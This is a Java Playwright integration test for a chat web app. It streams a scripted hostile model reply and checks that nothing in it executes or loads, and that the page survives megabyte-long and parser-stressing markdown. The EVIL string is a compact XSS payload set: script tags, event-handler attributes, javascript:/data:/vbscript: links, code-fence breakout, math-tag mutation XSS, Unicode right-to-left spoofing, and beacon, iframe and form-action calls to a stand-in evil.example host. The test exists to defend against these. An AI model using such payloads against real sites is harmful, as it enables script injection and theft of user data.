package io.baton.outside;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;

import io.baton.dev.TestServer;
import io.baton.scripted.Recording;
import jakarta.json.Json;
import java.nio.charset.StandardCharsets;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** A model that means harm: nothing of what it says runs or is fetched, and the page stays quick. */
class HostileIT {
    private static final String EVIL = """
            <script>window.hacked = 1</script>

            <img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"><script>window.hacked = 4</script></svg>

            ![beacon](https://evil.example/beacon.png?secret) <img src="https://evil.example/raw.png">

            [click](javascript:window.hacked=5) [data](data:text/html,<script>window.hacked=6</script>) [vb](vbscript:x)
            [fake: https://good.example](https://evil.example/fake) [local](/logout) <a href="javascript:alert(1)">raw</a>

            <style>* { display: none !important }</style><iframe src="https://evil.example/frame"></iframe>
            <form action="https://evil.example/form"><input name=password></form>

            > quote <math><mtext></mtext><script>window.hacked = 7</script></math>

            | a | <b onclick="window.hacked=8">b</b> |
            |---|---|
            | [x](jAvAsCrIpT:window.hacked=9) | \u202Egnp.exe\u202C |

            ```html" onmouseover="window.hacked=10
            </code></pre><script>window.hacked = 11</script>
            access = "user\u202E // admin\u202C"
            """;
    private static final String WATCH = """
            () => {
              window.slowest = 0;
              let last = performance.now();
              const tick = (now) => { window.slowest = Math.max(window.slowest, now - last); last = now; requestAnimationFrame(tick); };
              requestAnimationFrame(tick);
            }
            """;

    @AfterEach
    void sayNothingBadAnyMore() {
        Providers.scripted().removeRecording("qwen");
    }

    @Test
    void nothingRunsAndNothingIsFetched() {
        try (var browser = Browser.speaking("en-US")) {
            var elsewhere = new CopyOnWriteArrayList<String>();
            browser.context().onRequest(request -> {
                if (!request.url().startsWith(TestServer.running().url())) {
                    elsewhere.add(request.url());
                }
            });
            var chat = new ChatPage(browser.signedIn("author", "/"));
            said(EVIL, 7);
            chat.ask("Be evil");
            chat.awaitState("done");
            assertThat(chat.lastText()).containsText("window.hacked = 11");
            chat.page().reload();
            assertThat(chat.lastText()).containsText("window.hacked = 11");
            assertEquals(null, chat.page().evaluate("window.hacked"));
            assertEquals(List.of(), elsewhere);
            assertEquals(
                    0,
                    chat.lastText()
                            .locator("script, img, svg, iframe, style, form, input, math")
                            .count());
            assertThat(chat.lastText().locator("a[href^='https://evil.example/fake']"))
                    .hasText("fake: https://good.example (evil.example)");
            var links = chat.lastText().locator("a");
            assertEquals(
                    List.of("beacon.png?secret", "raw.png", "fake", "frame", "form"),
                    links.evaluateAll("links => links.map(link => link.href.replace('https://evil.example/', ''))"));
            assertEquals(
                    Collections.nCopies(5, "noopener noreferrer nofollow ugc"),
                    links.evaluateAll("links => links.map(link => link.rel)"));
            assertThat(chat.lastText().locator("pre code")).containsText("⟨U+202E⟩");
        }
    }

    @Test
    void anUnendingLineOfAMegabyteLeavesThePageUsable() {
        assertUsable("a megabyte in a line", "x<b>*[(".repeat(150_000), 5_000);
    }

    @Test
    void markupThatIsHardToReadLeavesThePageUsable() {
        assertUsable(
                "hard markup",
                "[a](".repeat(4_000) + "\n\n" + "**a _b ".repeat(3_000) + "\n\n" + "> ".repeat(3_000) + "\n\n"
                        + "- ".repeat(3_000) + "\n\n" + "`".repeat(5_000) + "\n\n" + "![[".repeat(4_000),
                200);
    }

    private static void assertUsable(String what, String text, int piece) {
        try (var browser = Browser.speaking("en-US")) {
            var chat = new ChatPage(browser.signedIn("author", "/"));
            said(text, piece);
            chat.page().evaluate(WATCH);
            chat.ask("Be long");
            chat.awaitState("done");
            chat.page().evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))");
            var slowest = ((Number) chat.page().evaluate("window.slowest")).doubleValue();
            System.out.printf("%s: the slowest frame took %.0f ms%n", what, slowest);
            chat.input().fill("still here");
            assertThat(chat.input()).hasValue("still here");
        }
    }

    /** Has Qwen say this, in pieces of so many characters. */
    private static void said(String text, int piece) {
        var body = new StringBuilder();
        for (var from = 0; from < text.length(); from += piece) {
            var content = text.substring(from, Math.min(text.length(), from + piece));
            body.append(event(
                    Json.createObjectBuilder().add("content", content).build().toString(), "null"));
        }
        body.append(event("{}", "\"stop\"")).append("data: [DONE]\n\n");
        Providers.scripted()
                .recording(
                        "qwen",
                        new Recording("text/event-stream", body.toString().getBytes(StandardCharsets.UTF_8), 0));
    }

    private static String event(String delta, String finish) {
        return "data: {\"id\":\"r\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"m\",\"choices\":"
                + "[{\"index\":0,\"delta\":" + delta + ",\"finish_reason\":" + finish + "}]}\n\n";
    }
}
